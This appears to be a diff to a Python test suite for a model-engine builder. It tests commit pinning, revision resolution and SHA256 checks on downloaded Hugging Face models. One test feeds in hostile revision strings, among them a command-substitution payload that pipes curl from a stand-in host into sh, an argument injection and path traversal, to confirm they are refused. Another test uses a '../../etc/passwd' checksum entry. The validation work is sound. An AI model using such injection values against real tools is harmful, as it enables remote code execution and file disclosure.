@@ -2,13 +2,22 @@
 
 from __future__ import annotations
 
+import hashlib
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from cosyvoice_engine_builder.fetch import Downloaders
-from cosyvoice_engine_builder.request import InvalidRequest, parse_model_uri
+from cosyvoice_engine_builder.fetch import (
+    Downloaders,
+    FetchError,
+    describe,
+    fetch_model,
+    read_fetched,
+)
+from cosyvoice_engine_builder.redaction import Redactor
+from cosyvoice_engine_builder.request import BuildRequest, InvalidRequest, parse_model_uri
+from cosyvoice_engine_builder.runner import Runner
 from tests.engine_builder.conftest import KEY, Builder, make_model
 
 
@@ -63,9 +72,11 @@ def test_hf_download_passes_repo_revision_and_token(builder: Builder) -> None:
             "local_dir": str(work_model),
         }
     ]
+    # A fake download has no resolver: the revision asked for, no resolved commit.
     assert builder.manifest()["model"] == {
         "uri": "hf://yuekai/cosyvoice2_llm",
         "revision": "abc123",
+        "resolvedRevision": "",
         "companions": [],
     }
     # The downloaded copy went into the engine (hidden hub metadata dropped), scratch is gone.
@@ -271,9 +282,18 @@ def test_cosyvoice3_release_is_completed_with_its_companions(builder: Builder) -
     assert calls[2]["argv"][0] == f"--onnx={model / 'flow.decoder.estimator.autocast_fp16.onnx'}"
     manifest = builder.manifest()
     assert manifest["model"]["companions"] == [
-        {"uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", "into": "llm"},
-        {"uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX", "into": ""},
+        {
+            "uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF",
+            "into": "llm",
+            "resolvedRevision": "",
+        },
+        {
+            "uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX",
+            "into": "",
+            "resolvedRevision": "",
+        },
     ]
+    assert "is not pinned to a commit" in result.out
     assert manifest["layout"]["tokenizerDir"] == "model/llm"
     assert (builder.engine_dir / "model" / "llm" / "model.safetensors").read_text() == "llm"
     assert "is an upstream release: also fetching" in result.out
@@ -415,3 +435,172 @@ def test_s3_errors_a_retry_cannot_fix_are_permanent(
     result = builder.build(model_uri="s3://my-bucket/models/cv2")
     assert result.code == code
     assert result.termination is not None and str(error) in result.termination["message"]
+
+
+# ---- supply chain (issue 21 M5): commits resolved, recorded and pinned; sha256 lists --------
+
+
+def _commit(text: str) -> str:
+    return hashlib.sha1(text.encode()).hexdigest()
+
+
+class Resolver:
+    """A fake HfApi.model_info(...).sha: the default branch and tags are at commit(repo@ref);
+    a commit is itself."""
+
+    def __init__(self) -> None:
+        self.calls: list[tuple[str, str | None]] = []
+
+    def __call__(self, *, repo_id: str, revision: str | None, token: str | None) -> str:
+        self.calls.append((repo_id, revision))
+        if revision is not None and len(revision) == 40:
+            return revision
+        return _commit(f"{repo_id}@{revision or 'main'}")
+
+
+def test_every_repository_is_fetched_at_the_commit_it_resolved_to_and_recorded(
+    builder: Builder,
+) -> None:
+    hub, resolve = HubOfRepos(), Resolver()
+    builder.downloaders = Downloaders(hf_snapshot_download=hub, hf_resolve=resolve)
+    uri = "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512"
+    result = builder.build(variant="cosyvoice3", model_uri=uri, revision="v1.0")
+    assert result.code == 0, result.out
+    official = _commit("FunAudioLLM/Fun-CosyVoice3-0.5B-2512@v1.0")
+    llm = _commit("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF@main")
+    onnx = _commit("yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX@main")
+    # Downloaded at the resolved commits: a branch that moves meanwhile changes nothing.
+    assert [(c[0], c[1]) for c in hub.calls] == [
+        ("FunAudioLLM/Fun-CosyVoice3-0.5B-2512", official),
+        ("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", llm),
+        ("yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX", onnx),
+    ]
+    model = builder.manifest()["model"]
+    assert model["revision"] == "v1.0" and model["resolvedRevision"] == official
+    assert [c["resolvedRevision"] for c in model["companions"]] == [llm, onnx]
+    assert all("revision" not in c for c in model["companions"])  # none pinned
+    assert f"fetched at its default branch, commit {llm}" in result.out
+
+
+def _request(builder: Builder, **overrides: Any) -> BuildRequest:
+    values: dict[str, Any] = {
+        "key": KEY,
+        "cache_dir": builder.cache,
+        "variant": "cosyvoice3",
+        "model_uri": "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512",
+        "revision": "",
+        "precision": "bfloat16",
+        "tensor_parallel_size": 1,
+        "max_batch_size": 16,
+        "max_num_tokens": 32768,
+        "gpu_arch": "sm_90",
+        "work_dir": None,
+        "pvc_root": builder.pvc_root,
+    }
+    values.update(overrides)
+    return BuildRequest.create(**values)
+
+
+def _fetch(builder: Builder, request: BuildRequest, hub: Any, resolve: Any = None) -> list[str]:
+    lines: list[str] = []
+    fetch_model(
+        request,
+        downloaders=Downloaders(hf_snapshot_download=hub, hf_resolve=resolve),
+        runner=Runner(redactor=Redactor([]), echo=lines.append),
+        environ={},
+        echo=lines.append,
+    )
+    return lines
+
+
+def test_a_pinned_companion_is_fetched_at_its_commit_and_recorded_as_pinned(
+    builder: Builder,
+) -> None:
+    pin = _commit("pinned")
+    request = _request(
+        builder, companion_revisions=[f"hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF={pin}"]
+    )
+    hub, resolve = HubOfRepos(), Resolver()
+    lines = _fetch(builder, request, hub, resolve)
+    assert hub.calls[1][:2] == ("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", pin)
+    fetched = read_fetched(request)
+    assert fetched["companions"][0] == {
+        "uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF",
+        "into": "llm",
+        "revision": pin,
+        "resolvedRevision": pin,
+    }
+    # Only the other one is reported unpinned.
+    unpinned = [line for line in lines if "is not pinned" in line]
+    assert len(unpinned) == 1 and "FP16-ONNX" in unpinned[0]
+    # The describe of the dry run names the pin.
+    assert f"revision={pin!r}" in describe(request, {})
+
+
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [
+        ("hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF=main", "full 40-character commit"),
+        ("hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", "full 40-character commit"),
+        (f"s3://bucket/x={'a' * 40}", "hf://ORG/NAME=COMMIT"),
+    ],
+)
+def test_a_companion_pin_must_be_a_full_commit(builder: Builder, value: str, words: str) -> None:
+    with pytest.raises(InvalidRequest, match=words):
+        _request(builder, companion_revisions=[value])
+
+
+def test_a_pin_for_no_companion_of_the_release_is_refused(builder: Builder) -> None:
+    request = _request(builder, companion_revisions=[f"hf://someone/else={'a' * 40}"])
+    with pytest.raises(FetchError) as refused:
+        _fetch(builder, request, HubOfRepos())
+    assert refused.value.permanent and "not a companion repository" in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "revision", ["$(curl${IFS}evil|sh)", "--pvc-root=/etc", "../../x", "a\x00b", "a\x1bb", "a b"]
+)
+def test_hostile_revisions_are_refused_before_anything_runs(
+    builder: Builder, revision: str
+) -> None:
+    with pytest.raises(InvalidRequest, match="--revision"):
+        _request(builder, revision=revision)
+
+
+def test_revisions_of_the_crds_character_set_are_accepted(builder: Builder) -> None:
+    for revision in ("main", "refs/pr/1", "v1.0", "a" * 40, "3HL4kqtJ+rmSpXd3dIbr=="):
+        assert _request(builder, revision=revision).revision == revision
+
+
+def _sha256_list(builder: Builder, text: str) -> Path:
+    path = builder.tmp / "SHA256SUMS"
+    path.write_text(text)
+    return path
+
+
+def test_a_sha256_list_is_checked_after_the_fetch(builder: Builder) -> None:
+    llm = hashlib.sha256(b"llm").hexdigest()
+    onnx = hashlib.sha256(b"autocast estimator").hexdigest()
+    good = f"# the LLM and the estimator\n{llm}  llm/model.safetensors\n"
+    good += f"{onnx} *flow.decoder.estimator.autocast_fp16.onnx\n"
+    request = _request(builder, sha256_list=_sha256_list(builder, good))
+    _fetch(builder, request, HubOfRepos())
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        (f"{'0' * 64}  llm/model.safetensors\n", "is not the"),
+        (f"{'0' * 64}  llm/absent.bin\n", "not in the fetched model"),
+        (f"{'0' * 64}  ../../etc/passwd\n", "without '..'"),
+        ("llm/model.safetensors\n", "sha256sum's format"),
+        ("# nothing\n", "lists no file"),
+    ],
+)
+def test_a_sha256_list_that_does_not_match_fails_the_build_for_good(
+    builder: Builder, text: str, words: str
+) -> None:
+    request = _request(builder, sha256_list=_sha256_list(builder, text))
+    with pytest.raises(FetchError) as refused:
+        _fetch(builder, request, HubOfRepos())
+    assert refused.value.permanent and words in str(refused.value)
